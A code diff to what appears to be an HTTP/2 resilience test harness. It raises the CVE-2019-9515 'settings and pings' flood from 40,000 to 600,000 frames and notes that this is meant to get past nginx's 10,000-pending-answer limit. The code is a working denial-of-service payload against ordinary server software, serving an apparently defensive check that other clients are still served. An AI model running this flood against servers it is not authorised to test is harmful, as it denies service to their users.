@@ -128,8 +128,11 @@ def continuations(position: Position) -> Verdict:
 
 
 def settings(position: Position) -> Verdict:
-    """CVE-2019-9515: each SETTINGS wants an acknowledgement."""
-    data = (h2.frame(h2.SETTINGS, 0, 0, b"\0\3\0\0\0\x64") + h2.frame(h2.PING, 0, 0, b"attacker")) * 20_000
+    """CVE-2019-9515: each SETTINGS wants an acknowledgement.
+
+    nginx ends it at 10,000 answers that wait, which the kernel's buffers may take off it, or at 8 MiB without a body.
+    """
+    data = (h2.frame(h2.SETTINGS, 0, 0, b"\0\3\0\0\0\x64") + h2.frame(h2.PING, 0, 0, b"attacker")) * 300_000
     with contextlib.closing(connect(position)) as connection:
         seen = h2.talk(connection, data, patience=min(position.bounds.patience, 3))
     verdict = bystander_served(position, str(seen))
@@ -176,7 +179,7 @@ ATTACKS = [
     Attack(
         "HTTP/2",
         "HTTP/2: settings and pings",
-        "40 000 frames that want an answer",
+        "up to 600 000 frames that want an answer",
         "the connection ends, others are served",
         settings,
     ),
